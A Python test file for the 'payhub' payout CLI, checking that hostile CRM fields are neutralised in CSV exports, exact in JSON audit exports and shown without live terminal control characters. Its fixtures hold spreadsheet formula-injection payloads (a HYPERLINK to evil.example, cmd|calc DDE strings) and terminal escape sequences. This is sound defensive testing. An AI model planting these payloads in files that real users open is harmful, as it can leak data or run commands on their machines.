"""Hostile CRM text through the pipeline and out of every CLI output: CSV neutralised, JSON Lines exact, tables and
messages literal and free of terminal control characters.

The site ingests deals whose payee ids are spreadsheet formulas (``=HYPERLINK(…)``, ``+…``, ``-…``, ``@…``) or Rich
markup (``[/x]``, ``[bold]x``), a product attribute full of terminal control sequences, and a refund of -5.00;
``payhub run --once`` pays them through the csv_export rail. Two more payees are not in the registry, so their
rewards are held (an operator can hold them with a reason of their own), and a refunded deal claws back a paid reward:
a negative adjustment of -10.00.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from cli_helpers import invoke
from test_cli import CONFIG, Site
from test_programs import SOURCE, run

from payhub.api import SourceRecord
from payhub.audit import FIELDS, GENESIS, canonical_json, entry_hash
from payhub.cli import output
from payhub.csvsafe import restore_cell

FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MARKUP = "[/x]"
BOLD = "[bold]x"
FORMULA_IDS = [FORMULA, PLUS, MINUS, AT]
NAME = "=cmd|' /C calc'!A0"
CONTROL = "widget\x1b[2J\x1b]0;pwned\x07\u202eevil\b"
RAW_CONTROLS = ("\x1b", "\x07", "\x08", "\u202e", "\u2066", "\x9b")

PAYEES = [("id", "name", "country", "iban"), (FORMULA, NAME, "DE", "DE89370400440532013000"), ("p1", "One", "US", "x0"),
          (PLUS, "+49 30 0000", "DE", "DE02120300000000202051"), (MINUS, "-2+3", "US", "x1"),
          (AT, "@everyone", "US", "x2"), (MARKUP, "[bold]Partner", "US", "x3"), (BOLD, "Bold", "US", "x4")]
DEALS = [("id", "type", "occurred_at", "payee_id", "amount", "currency", "product"),
         ("D-1", "deal_won", "2026-10-01T00:00:00Z", FORMULA, "1000.00", "USD", CONTROL),
         ("D-2", "deal_won", "2026-10-02T00:00:00Z", PLUS, "200.00", "EUR", "gadget"),
         ("D-3", "deal_won", "2026-10-03T00:00:00Z", MINUS, "300.00", "USD", "gizmo"),
         ("D-4", "deal_won", "2026-10-04T00:00:00Z", AT, "400.00", "USD", "gizmo"),
         ("D-[/x]", "deal_won", "2026-10-05T00:00:00Z", MARKUP, "500.00", "USD", "[red]shiny[/red]"),
         ("D-6", "deal_won", "2026-10-06T00:00:00Z", BOLD, "600.00", "USD", ":smile:"),
         ("D-8", "deal_won", "2026-10-08T00:00:00Z", "p1", "100.00", "USD", "widget"),
         ("U-1", "deal_won", "2026-10-09T00:00:00Z", "unreg-1", "10.00", "USD", "widget"),
         ("U-2", "deal_won", "2026-10-09T00:00:00Z", "unreg-2", "20.00", "USD", "widget")]
REFUND = ("D-8", "deal_refunded", "2026-10-10T00:00:00Z", "p1", "", "", "")
SETTINGS = CONFIG.replace('percent = "10"\n', 'percent = "10"\nclawback_event_types = ["deal_refunded"]\n')


def write_csv(path: Path, rows: list[tuple[str, ...]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)


@pytest.fixture(autouse=True)
def wide_console(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(output.console, "width", 400)
    monkeypatch.setattr(output.err_console, "width", 400)


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile") / "site"
    root.mkdir()
    assert SETTINGS != CONFIG
    (root / "payhub.toml").write_text(SETTINGS)
    write_csv(root / "deals.csv", DEALS)
    write_csv(root / "payees.csv", PAYEES)
    site = Site(root)
    site.ok("db", "upgrade")
    site.ok("run", "--once")
    with (root / "deals.csv").open("a", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerow(REFUND)
    site.ok("run", "--once")
    return root


@pytest.fixture
def site(world: Path, tmp_path: Path) -> Site:
    return Site(Path(shutil.copytree(world, tmp_path / "site")))


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def runnable(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula (OWASP's triggers, after white space too)?"""
    try:
        float(cell)
        return False  # a number
    except ValueError:
        return cell[:1] in ("=", "+", "-", "@", "\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")


def assert_no_formula(rows: list[dict[str, str]]) -> None:
    cells = [cell for row in rows for cell in [*row.keys(), *row.values()]]
    assert cells and not [cell for cell in cells if runnable(cell)]


# ------------------------------------------------------------------------------------------------------- CSV


def reward_ids(site: Site) -> dict[str, int]:
    """Payee -> reward id, for the rewards of the hostile payees (paid) and of the unregistered ones (held)."""
    return {r["payee"]: r["id"] for r in site.json("rewards", "list") if r["payee"] != "p1"}


def test_the_hostile_deals_went_through_the_pipeline(site: Site) -> None:
    rewards = site.json("rewards", "list")
    assert {r["payee"] for r in rewards if r["status"] == "sent"} == {*FORMULA_IDS, MARKUP, BOLD, "p1"}
    assert {r["payee"] for r in rewards if r["status"] == "held"} == {"unreg-1", "unreg-2"}
    assert [(r["amount"], r["status"]) for r in rewards if r["payee"] == "p1"] == [("-10.00", "carried"),
                                                                                ("10.00", "sent")]
    assert {p["payee"] for p in site.json("payouts", "list")} == {*FORMULA_IDS, MARKUP, BOLD, "p1"}


def test_listings_in_csv_neutralise_formulas_and_keep_plain_negative_numbers(site: Site) -> None:
    events = csv_rows(site.ok("events", "list", "--format", "csv").stdout)
    by_object = {e["object"]: e for e in events if e["type"] == "deal_won"}
    assert [by_object[f"record:D-{n}"]["payee"] for n in (1, 2, 3, 4)] == ["'" + p for p in FORMULA_IDS]
    assert by_object["record:D-[/x]"]["payee"] == MARKUP  # harmless text is written as it is
    assert_no_formula(events)

    rewards = csv_rows(site.ok("rewards", "list", "--format", "csv").stdout)
    assert {r["payee"] for r in rewards} == {*("'" + p for p in FORMULA_IDS), MARKUP, BOLD, "p1", "unreg-1",
                                             "unreg-2"}
    assert [r["amount"] for r in rewards if r["payee"] == "p1"] == ["-10.00", "10.00"]  # a number stays a number
    assert_no_formula(rewards)

    payouts = csv_rows(site.ok("payouts", "list", "--format", "csv").stdout)
    assert {r["payee"] for r in payouts} == {*("'" + p for p in FORMULA_IDS), MARKUP, BOLD, "p1"}
    assert_no_formula(payouts)


def test_operator_text_is_neutralised_in_csv(site: Site) -> None:
    rewards = reward_ids(site)
    site.ok("rewards", "hold", str(rewards["unreg-1"]), "--reason", "@SUM(1)")
    site.ok("rewards", "hold", str(rewards["unreg-2"]), "--reason", "-2+3 =HYPERLINK(\"x\")")
    rows = {r["payee"]: r for r in csv_rows(site.ok("rewards", "list", "--format", "csv").stdout)}
    assert (rows["unreg-1"]["reason"], rows["unreg-2"]["reason"]) == ("'@SUM(1)", "'-2+3 =HYPERLINK(\"x\")")
    assert_no_formula(list(rows.values()))


def test_the_bank_file_of_the_csv_export_rail_is_neutralised(site: Site) -> None:
    files = sorted((site.root / "out").glob("payouts-*.csv"))
    rows = [row for path in files for row in csv_rows(path.read_text(encoding="utf-8"))]
    by_payee = {restore_cell(r["payee_id"]): r for r in rows}
    assert set(by_payee) == {*FORMULA_IDS, MARKUP, BOLD, "p1"}
    assert by_payee[FORMULA]["payee_id"] == "'" + FORMULA
    assert by_payee[FORMULA]["payee_name"] == "'" + NAME
    assert (by_payee[MINUS]["payee_name"], by_payee[AT]["payee_name"]) == ("'-2+3", "'@everyone")
    assert by_payee[FORMULA]["amount"] == "100.00" and by_payee[PLUS]["amount"] == "20.00"
    assert all(r["idempotency_key"].startswith("ph-") for r in rows)
    assert_no_formula(rows)
    # Another pass reads the files back and finds every payout there: nothing is written twice.
    site.ok("run", "--once")
    assert sorted((site.root / "out").glob("payouts-*.csv")) == files


def test_audit_query_and_export_in_csv_are_neutralised_and_restore_exactly(site: Site, tmp_path: Path) -> None:
    # An --actor never holds white space around it or a control character (TAB, CR): those are refused.
    for actor in (FORMULA, "-2+3", "+1+1", "@x"):
        site.ok("audit", "query", "--limit", "1", actor=actor)
    queried = csv_rows(site.ok("audit", "query", "--format", "csv").stdout)
    assert [r["actor"] for r in queried[-4:]] == ["'" + FORMULA, "'-2+3", "'+1+1", "'@x"]
    payee_ids = {r["subject_id"] for r in queried if r["subject_type"] == "payee"}
    assert {*("'" + p for p in FORMULA_IDS), MARKUP, BOLD} <= payee_ids
    assert_no_formula(queried)

    target = tmp_path / "audit.csv"
    site.ok("audit", "export", "--format", "csv", "--output", str(target))
    with target.open(newline="", encoding="utf-8") as fh:
        exported = list(csv.DictReader(fh))
    assert_no_formula(exported)
    assert any(r["actor"] == "'+1+1" for r in exported)
    # The cells as written no longer hash to the chain; undoing the rule gives back every stored text exactly.
    stored = site.audit()[: len(exported)]
    restored = [{k: restore_cell(v) for k, v in row.items()} for row in exported]
    assert [{k: str(v) for k, v in row.items()} for row in stored] == restored


def test_json_lines_export_is_byte_exact_and_the_chain_recomputes_from_it(site: Site, tmp_path: Path) -> None:
    reason = "=cmd|' /C calc'!A0 \x1b[2J\u202e"
    site.ok("rewards", "hold", str(reward_ids(site)["unreg-2"]), "--reason", reason, actor=AT)
    target = tmp_path / "audit.jsonl"
    site.ok("audit", "export", "--output", str(target))
    data = target.read_bytes()
    stored = site.audit()[:-1]  # the last entry records the export itself
    lines = data.decode("utf-8").splitlines(keepends=True)
    assert len(lines) == len(stored)
    prev = GENESIS
    for line, row in zip(lines, stored, strict=True):
        entry = json.loads(line)
        # Every value is the stored text, unchanged (no leading quote, no escaping beyond JSON's own).
        assert {**entry, "detail": canonical_json(entry["detail"])} == row
        # Written back the same way, the line comes out byte for byte.
        assert json.dumps(entry, ensure_ascii=False) + "\n" == line
        assert entry["prev_hash"] == prev and entry_hash({f: row[f] for f in FIELDS}) == entry["hash"]
        prev = entry["hash"]
    entries = [json.loads(line) for line in lines]
    assert [e["actor"] for e in entries if e["detail"].get("reason") == reason] == [AT]
    assert {*FORMULA_IDS, MARKUP, BOLD} <= {e["subject_id"] for e in entries if e["subject_type"] == "payee"}
    # Exporting again gives the same bytes for the same entries (plus the entries written since).
    assert site.ok("audit", "export").stdout_bytes.startswith(data)
    # The auditor's script of docs/operations.md recomputes the chain from this export.
    docs = (Path(__file__).parents[2] / "docs" / "operations.md").read_text(encoding="utf-8")
    [script] = [block for block in re.findall(r"```python\n(.*?)```", docs, re.S) if "audit export -o" in block]
    (tmp_path / "verify_audit.py").write_text(script, encoding="utf-8")
    checked = subprocess.run([sys.executable, str(tmp_path / "verify_audit.py"), str(target)], capture_output=True,
                             text=True, timeout=60)
    assert checked.returncode == 0, checked.stderr
    assert checked.stdout.strip() == f"{len(stored)} entries, head {stored[-1]['hash']}"


# ---------------------------------------------------------------------------------------------- tables, text


def test_listing_tables_show_markup_literally_and_never_crash(site: Site) -> None:
    for listing in ("events", "rewards", "payouts"):
        table = site.ok(listing, "list").stdout
        for payee in (FORMULA, MARKUP, BOLD):
            assert payee in table, (listing, payee)
    audit_table = site.ok("audit", "query", "--action", "payee.*").stdout
    assert MARKUP in audit_table and BOLD in audit_table


def test_explain_shows_crm_text_literally(site: Site) -> None:
    rewards = reward_ids(site)
    text = site.ok("explain", str(rewards[FORMULA])).stdout
    assert f"to {FORMULA} (sent)" in text
    # Attributes are shown as JSON, whose escapes keep the control characters out of the terminal.
    assert '"product": "widget\\u001b[2J\\u001b]0;pwned\\u0007\\u202eevil\\b"' in text
    assert not [raw for raw in RAW_CONTROLS if raw in text] and "\\x0a" not in text  # JSON keeps its lines
    markup = site.ok("explain", str(rewards[MARKUP])).stdout
    assert "to [/x] (sent)" in markup and '"[red]shiny[/red]"' in markup
    assert "Event 5 deals:record:D-[/x]:deal_won" in markup
    assert '"product": ":smile:"' in site.ok("explain", str(rewards[BOLD])).stdout


def test_control_characters_in_stored_text_never_reach_the_terminal(site: Site) -> None:
    rewards = reward_ids(site)
    payouts = {p["payee"]: p["id"] for p in site.json("payouts", "list")}
    site.ok("rewards", "hold", str(rewards["unreg-1"]), "--reason", "ask \x1b[31mfinance\x1b[0m\u2066now\u2069 [/x]")
    # Text a rail sent back (its reference and the detail of an attempt), as a provider could send it.
    site.sql("UPDATE payouts SET provider_ref = ?, reason = ? WHERE id = ?",
             "ref\x1b[2J", "bank says \u202eko\x9b1m", payouts[BOLD])
    site.sql("UPDATE attempts SET detail = ? WHERE payout_id = ?", "timeout\x07\x08[bold]", payouts[BOLD])
    outputs = {
        "rewards": site.ok("rewards", "list").stdout,
        "payouts": site.ok("payouts", "list").stdout,
        "explain": site.ok("explain", str(rewards["unreg-1"])).stdout,
        "trace": site.ok("audit", "trace", "D-6").stdout,
        "audit": site.ok("audit", "query", "--action", "reward.held").stdout,
    }
    for name, text in outputs.items():
        assert not [raw for raw in RAW_CONTROLS if raw in text], name
    held = "ask \\x1b[31mfinance\\x1b[0m\\u2066now\\u2069 [/x]"
    assert held in outputs["rewards"] and f"Held (operator): {held}" in outputs["explain"]
    assert "ref\\x1b[2J" in outputs["payouts"] and "bank says \\u202eko\\x9b1m" in outputs["payouts"]
    trace = outputs["trace"].splitlines()
    assert trace[0] == "event 6 deals:record:D-6:deal_won [calculated]"
    assert trace[2] == "  reward 6 60.00 USD to [bold]x [sent]"
    assert trace[3].endswith(" ref ref\\x1b[2J") and trace[4] == "      send #1 accepted: timeout\\x07\\x08[bold]"
    assert "\\u001b[31mfinance" in outputs["audit"]  # the detail column is JSON text


def test_audit_trace_of_a_markup_id_and_error_messages_with_markup(site: Site) -> None:
    lines = site.ok("audit", "trace", "D-[/x]").stdout.splitlines()
    assert lines[0] == "event 5 deals:record:D-[/x]:deal_won [calculated]"
    assert lines[2] == "  reward 5 50.00 USD to [/x] [sent]"
    missing = site.cli("audit", "trace", "[/x] [bold]nothing")
    assert missing.exit_code == 1 and "error: nothing found for '[/x] [bold]nothing'" in missing.stderr


def test_configuration_errors_show_names_with_control_characters_escaped(tmp_path: Path) -> None:
    config = tmp_path / "payhub.toml"
    config.write_text(CONFIG + '\n[sources."x\\u001b[2J[/x]"]\nplugin = "nosuch"\n')
    result = invoke("-c", str(config), "config", "check")
    assert result.exit_code == 2
    assert "x\\x1b[2J[/x]" in result.stderr and "\x1b" not in result.stderr


# ------------------------------------------------------------------------------------------------------ funds


def coop_purchase(object_id: str, partner: str, amount: str) -> SourceRecord:
    return SourceRecord("Order", object_id, "booked", "purchase", "2026-01-10T00:00:00Z", "rep1", amount, "USD",
                        partner)


def test_funds_list_neutralises_holders_in_csv_and_shows_them_literally(make_runtime: Any, tmp_path: Path) -> None:
    rt = make_runtime(SOURCE + """
        [programs.coop]
        calculator = "coop"
        percent = "2"
        participation_percent = "50"
    """)
    run(rt, coop_purchase("o1", FORMULA, "1000"), coop_purchase("o2", MARKUP, "1000"))
    config = str(tmp_path / "payhub.toml")
    text = invoke("-c", config, "funds", "list", "--format", "csv").stdout
    rows = csv_rows(text)
    assert sorted(r["holder"] for r in rows) == sorted(["'" + FORMULA, MARKUP])
    assert_no_formula(rows)
    table = invoke("-c", config, "funds", "list")
    assert table.exit_code == 0 and FORMULA in table.stdout and MARKUP in table.stdout
